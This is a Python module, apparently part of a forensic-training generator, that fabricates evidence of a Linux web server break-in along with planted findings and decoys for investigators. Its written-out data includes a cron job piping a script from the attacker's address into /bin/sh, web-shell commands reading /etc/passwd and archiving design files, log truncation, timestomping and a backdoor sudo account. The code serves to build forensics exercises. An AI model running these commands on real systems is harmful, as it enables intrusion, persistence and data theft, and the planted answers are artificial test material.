"""The company's web server: its logs, accounts and configuration as a collected folder tree."""

from __future__ import annotations

from datetime import datetime, timedelta

from wigmore.generator import shown
from wigmore.generator.case import Case
from wigmore.generator.linux import logs, shell, wtmp
from wigmore.generator.truth import Source

SOURCE, FOLDER = "src-server", "server"
GUESSES = 48


def build(case: Case) -> None:
    """Write the server's files; its clock runs on UTC."""
    world = case.world
    case.add_source(
        Source(SOURCE, f"Server {world.server}", "log_collection", "tree", "linux", f"evidence/{FOLDER}", "UTC")
    )
    broken_in = world.at(4, "22:14:30").replace(microsecond=0)
    _authentication(case, broken_in)
    _web(case, broken_in)
    if case.variant != "gap":  # nor were the login records collected
        _logins(case, broken_in)
    _rest(case, broken_in)


def _authentication(case: Case, at: datetime) -> None:
    world, path, host = case.world, "var/log/auth.log", case.world.server
    draw = world.random("auth")
    lines: list[tuple[datetime, str]] = []
    for day in range(-6, 7):
        for hour in range(24):
            tick = world.at(day, f"{hour:02d}:17:01").replace(microsecond=0)
            lines.append(
                (
                    tick,
                    logs.line(
                        tick,
                        host,
                        "CRON",
                        "pam_unix(cron:session): session opened for user root by (uid=0)",
                        1000 + hour,
                    ),
                )
            )
    for _ in range(case.noise // 10):
        tick = world.at(-6, "00:00:01").replace(microsecond=0) + timedelta(seconds=draw.randrange(12 * 86_400))
        lines.append(
            (
                tick,
                logs.accepted(
                    tick,
                    host,
                    draw.randrange(2_000, 9_000),
                    "deploy",
                    world.office,
                    draw.randrange(40_000, 60_000),
                    "publickey",
                ),
            )
        )
    fumble = world.at(2, "08:55:03").replace(microsecond=0)
    for number in range(4):
        tick = fumble + timedelta(seconds=9 * number)
        lines.append(
            (tick, logs.failed_password(tick, host, 4100 + number, "deploy", world.fumbler, 51_200 + number, True))
        )
    users = ("root", "admin", "test", "oracle", "www", "ubuntu", "deploy")
    start = at - timedelta(seconds=4 * GUESSES + 4)
    for number in range(GUESSES):
        tick, user = start + timedelta(seconds=4 * number), users[number % len(users)]
        lines.append(
            (
                tick,
                logs.failed_password(
                    tick, host, 5000 + number, user, world.attacker, 42_000 + number, user in ("root", "www", "deploy")
                ),
            )
        )
    made = at + timedelta(minutes=3, seconds=12)
    if case.guilty:
        lines += [
            (at, logs.accepted(at, host, 5100, "deploy", world.attacker, 42_100)),
            (at, logs.session(at, host, 5100, "deploy")),
            (
                made,
                logs.line(
                    made,
                    host,
                    "useradd",
                    f"new user: name={world.new_account}, UID=1007, GID=1007, "
                    f"home=/home/{world.new_account}, shell=/bin/bash",
                    5233,
                ),
            ),
            (
                made + timedelta(seconds=9),
                logs.line(
                    made + timedelta(seconds=9), host, "usermod", f"add '{world.new_account}' to group 'sudo'", 5241
                ),
            ),
        ]
    if case.variant == "gap":  # rotated away: the log begins two days after the attack
        lines = [item for item in lines if item[0] > at + timedelta(days=1)]
    case.write(FOLDER, path, logs.text(lines), world.at(7, "00:00:10"))
    if case.variant == "gap":
        return
    case.plant(
        "Wrong passwords for root came from this address",
        SOURCE,
        path,
        "linux.authlog",
        ("root", world.attacker, "42000"),
        "brute_force",
    )
    case.decoy(
        f"The address {world.fumbler} guessed passwords and got in",
        "four wrong passwords of one's own account, no success",
        SOURCE,
        path,
        ("deploy", world.fumbler),
        "brute_force",
    )
    if case.guilty:
        case.plant(
            "A password for deploy was accepted from the address that had guessed before",
            SOURCE,
            path,
            "linux.authlog",
            ("deploy", world.attacker, "42100", "password"),
            "brute_force",
        )
        case.plant(
            f"The account {world.new_account} was created",
            SOURCE,
            path,
            "linux.authlog",
            (world.new_account, "1007", f"/home/{world.new_account}"),
            "new_account",
        )
        case.plant(
            f"The account {world.new_account} was added to sudo",
            SOURCE,
            path,
            "linux.authlog",
            (world.new_account, "sudo"),
            "new_account",
        )


def _web(case: Case, at: datetime) -> None:
    world, path = case.world, "var/log/apache2/access.log"
    lines = list(
        logs.ordinary_access(
            world.random("access"), world.at(-2, "00:00:01"), world.at(7, "00:00:00"), 60 + case.noise // 2
        )
    )
    scan = world.at(1, "03:20:11").replace(microsecond=0)
    for number, name in enumerate(("shell.php", "c99.php", "cmd.php", "wp-login.php")):
        tick = scan + timedelta(seconds=number)
        lines.append((tick, logs.access(tick, "198.51.100.200", "GET", f"/{name}", 404, 162, "curl/7.88.1")))
    case.decoy(
        "A web shell answered on the server on the Tuesday",
        "a scanner's requests for files that were not there (404)",
        SOURCE,
        path,
        ("198.51.100.200", "/shell.php", "404"),
        "web_shell",
    )
    if case.guilty:
        place = f"/uploads/{world.shell_name}"
        put = at + timedelta(minutes=9, seconds=4)
        calls = [
            (put, "POST", "/upload.php", 200, 312),
            (put + timedelta(seconds=41), "GET", f"{place}?cmd=id", 200, 54),
        ]
        calls += [
            (put + timedelta(seconds=60 + 17 * number), "GET", f"{place}?cmd={command}", 200, 400 + number)
            for number, command in enumerate(("uname+-a", "cat+/etc/passwd", "tar+czf+/tmp/d.tgz+/srv/designs"))
        ]
        lines += [
            (tick, logs.access(tick, world.attacker, method, target, status, size, "python-requests/2.31.0"))
            for tick, method, target, status, size in calls
        ]
        for tick, _, target, status, size in (calls[1], calls[4]):
            case.plant(
                "A request with a command in its query was answered",
                SOURCE,
                path,
                "web.access",
                (world.attacker, target, str(status), str(size), shown.posix(tick)),
                "web_shell",
            )
        shell_path = f"var/www/html{place}"
        case.write(
            FOLDER,
            shell_path,
            b"<?php if (isset($_GET['cmd'])) { /* defused for the exercise */ echo 'disabled'; } ?>\n",
            datetime.fromisoformat("2020-01-01T00:00:00+00:00"),
        )
        case.plant(
            "The script that answered lies in the upload folder",
            SOURCE,
            shell_path,
            "file",
            (world.shell_name,),
            "web_shell",
        )
    case.write(FOLDER, path, logs.text(lines), world.at(7, "00:00:00"))


def _logins(case: Case, at: datetime) -> None:
    world = case.world
    boot = world.at(-6, "04:00:00")
    entries = [
        wtmp.Entry(boot, wtmp.BOOT, "reboot", "~", "5.15.0-generated", 0),
        wtmp.Entry(world.at(0, "09:01:12"), wtmp.USER, "deploy", "pts/0", world.office, 2210, world.office),
        wtmp.Entry(world.at(0, "09:48:40"), wtmp.DEAD, "", "pts/0", "", 2210),
    ]
    path = "var/log/wtmp"
    if case.guilty:
        entry = wtmp.Entry(
            at + timedelta(seconds=1, microseconds=254_113),
            wtmp.USER,
            "deploy",
            "pts/1",
            world.attacker,
            5104,
            world.attacker,
        )
        entries.append(entry)
        case.plant(
            "A session of deploy from the guessing address is in wtmp",
            SOURCE,
            path,
            "linux.wtmp",
            ("deploy", world.attacker, "pts/1", shown.posix_us(entry.at)),
            "brute_force",
        )
    case.write(FOLDER, path, wtmp.records(entries), world.at(7, "00:00:00"))
    failed = [
        wtmp.Entry(
            at - timedelta(seconds=4 * (GUESSES - n)),
            wtmp.LOGIN,
            "root",
            "ssh:notty",
            world.attacker,
            5000 + n,
            world.attacker,
        )
        for n in range(GUESSES)
    ]
    case.write(FOLDER, "var/log/btmp", wtmp.records(failed), at)
    case.plant(
        "btmp holds failed logins of root from the address",
        SOURCE,
        "var/log/btmp",
        "linux.btmp",
        ("root", world.attacker, "ssh:notty"),
        "brute_force",
    )


def _rest(case: Case, at: datetime) -> None:
    world, host = case.world, case.world.server
    rotated = world.at(0, "06:25:02").replace(microsecond=0)
    lines = [
        (rotated, logs.line(rotated, host, "systemd", "Starting Rotate log files...", 1)),
        (
            rotated + timedelta(seconds=1),
            logs.line(rotated + timedelta(seconds=1), host, "systemd", "logrotate.service: Succeeded.", 1),
        ),
    ]
    for number in range(20 + case.noise // 10):
        tick = rotated + timedelta(minutes=13 * number + 5)
        lines.append(
            (
                tick,
                logs.line(tick, host, "CRON", "(root) CMD (cd / && run-parts --report /etc/cron.hourly)", 700 + number),
            )
        )
    case.write(FOLDER, "var/log/syslog", logs.text(lines), world.at(7, "00:00:00"))
    case.decoy(
        "The server's logs were cleared on the Monday",
        "the daily rotation by logrotate",
        SOURCE,
        "var/log/syslog",
        ("logrotate.service: Succeeded.",),
        "log_clearing",
    )
    case.write(
        FOLDER,
        "etc/cron.d/certbot",
        shell.cron([("0 */12 * * *", "root", "certbot -q renew")], "certificate renewal"),
        world.at(-300, "10:00:00"),
    )
    case.decoy(
        "A cron job keeps access to the server",
        "the certificate's renewal, installed with the system",
        SOURCE,
        "etc/cron.d/certbot",
        ("certbot -q renew",),
        "persistence",
    )
    users = [
        ("root", 0, "root", "/root", "/bin/bash"),
        ("www-data", 33, "www-data", "/var/www", "/usr/sbin/nologin"),
        ("deploy", 1000, "Deployment", "/home/deploy", "/bin/bash"),
    ]
    history: list[tuple[datetime | None, str]] = [
        (world.at(0, "09:02:10"), "sudo systemctl reload apache2"),
        (world.at(0, "09:05:44"), "df -h"),
    ]
    path = "home/deploy/.bash_history"
    if case.guilty:
        users.append((world.new_account, 1007, "", f"/home/{world.new_account}", "/bin/bash"))
        job = f"/usr/bin/curl -s http://{world.attacker}/k | /bin/sh"
        case.write(
            FOLDER, "etc/cron.d/sysstat2", shell.cron([("*/20 * * * *", "root", job)]), at + timedelta(minutes=20)
        )
        case.plant(
            "A cron job fetches and runs a script from the address every 20 minutes",
            SOURCE,
            "etc/cron.d/sysstat2",
            "linux.cron",
            (job, "*/20"),
            "persistence",
        )
        steps = (
            (
                4,
                f"sudo useradd -m -s /bin/bash {world.new_account}",
                "The shell history holds the creation of the account",
                "new_account",
            ),
            (
                11,
                f"touch -t 202001010000 /var/www/html/uploads/{world.shell_name}",
                "The shell history holds a command that sets the script's time back",
                "timestomping",
            ),
            (
                21,
                "sudo truncate -s 0 /var/log/auth.log.1",
                "The shell history holds a command that empties a log",
                "log_clearing",
            ),
        )
        for minutes, command, statement, template in steps:
            tick = at + timedelta(minutes=minutes)
            history.append((tick, command))
            case.plant(statement, SOURCE, path, "linux.history", (command, shown.posix(tick)), template)
    case.write(FOLDER, path, shell.bash_history(history), at + timedelta(minutes=22))
    case.write(FOLDER, "etc/passwd", shell.passwd(users), at)
    case.write(FOLDER, "etc/hostname", f"{host}\n".encode(), world.at(-300, "10:00:00"))
